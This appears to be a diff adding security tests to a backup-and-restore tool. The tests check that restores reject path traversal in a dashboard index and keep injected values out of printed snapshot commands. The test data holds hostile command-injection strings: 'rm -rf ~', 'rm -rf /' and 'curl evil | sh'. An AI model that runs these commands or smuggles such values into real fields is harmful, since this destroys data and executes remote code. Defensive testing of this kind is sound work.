@@ -229,3 +229,49 @@ def test_a_genuine_backup_still_verifies_and_restores(crafted, aetherops_cli, tm
     done = aetherops_cli("restore", str(crafted), "--only", "configs", "--configs-to", str(tmp_path / "out"))
     assert done.exit_code == 0, done
     assert (tmp_path / "out/mon/prometheus.yml").read_text(encoding="utf-8") == (tmp_path / "mon/prometheus.yml").read_text(encoding="utf-8")
+
+
+@pytest.mark.servers
+def test_crafted_dashboard_index_cannot_read_outside_the_component(grafana_double, profile_factory, aetherops_cli, tmp_path, monkeypatch):
+    from aetherops.testing.pytest_plugin import GRAFANA_TEST_TOKEN
+
+    grafana_double.seed_demo()
+    monkeypatch.setenv("GTOKEN", GRAFANA_TEST_TOKEN)
+    monkeypatch.chdir(tmp_path)
+    profile_factory("graf", grafana={"url": grafana_double.url, "auth": {"token_env": "GTOKEN"}})
+    made = aetherops_cli("-p", "graf", "backup", "--dir", str(tmp_path / "b"), "--only", "grafana", "-o", "json")
+    assert made.exit_code == 0, made
+    folder = Path(made.json()["path"])
+    index = json.loads((folder / "grafana/dashboards.json").read_text(encoding="utf-8"))
+    index["dashboards"][0]["file"] = "../MANIFEST.json"  # a listed file, but outside grafana/
+    write_listed(folder, "grafana/dashboards.json", json.dumps(index).encode("utf-8"))
+    grafana_double.reset()
+    before = len(grafana_double.request_log)
+    result = aetherops_cli("-p", "graf", "restore", str(folder), "--only", "grafana")
+    assert result.exit_code == 4, result
+    assert "'..'" in one_error_line(result.stderr)
+    assert [r for r in grafana_double.request_log[before:] if r[0] not in ("GET", "HEAD")] == []
+
+
+@pytest.mark.parametrize("meta, ok", [
+    ({"snapshot": "20260105T020000Z-3f1a2b", "data_dir": "/var/lib/prometheus"}, True),
+    ({"snapshot": "x'; rm -rf ~; '", "data_dir": "/var/lib/prometheus"}, False),
+    ({"snapshot": "../../etc", "data_dir": None}, False),
+    ({"snapshot": "20260105T020000Z", "data_dir": "/data'; curl evil | sh; '"}, False),
+    ({"snapshot": "20260105T020000Z", "data_dir": "/data\nrm -rf /"}, False),
+])
+def test_printed_snapshot_commands_never_carry_crafted_values(meta, ok):
+    from types import SimpleNamespace
+
+    from aetherops_plugins.backup.api import RestoreJob
+    from aetherops_plugins.backup.components.prometheus import PrometheusComponent
+
+    manifest = {"files": {}, "components": {"prometheus": {"meta": {**meta, "snapshot_copied": True}}}}
+    profile = SimpleNamespace(section=lambda name: {})
+    job = RestoreJob("prometheus", Path("/nonexistent/prometheus"), manifest, None, profile)
+    PrometheusComponent().restore(job)
+    [item] = [i for i in job.items if i.kind == "snapshot"]
+    assert (item.action == "manual") is ok
+    printed = "\n".join(job.instructions)
+    assert ("rm -rf" not in printed and "curl" not in printed and "../../etc" not in printed)
+    assert bool(job.instructions) is ok
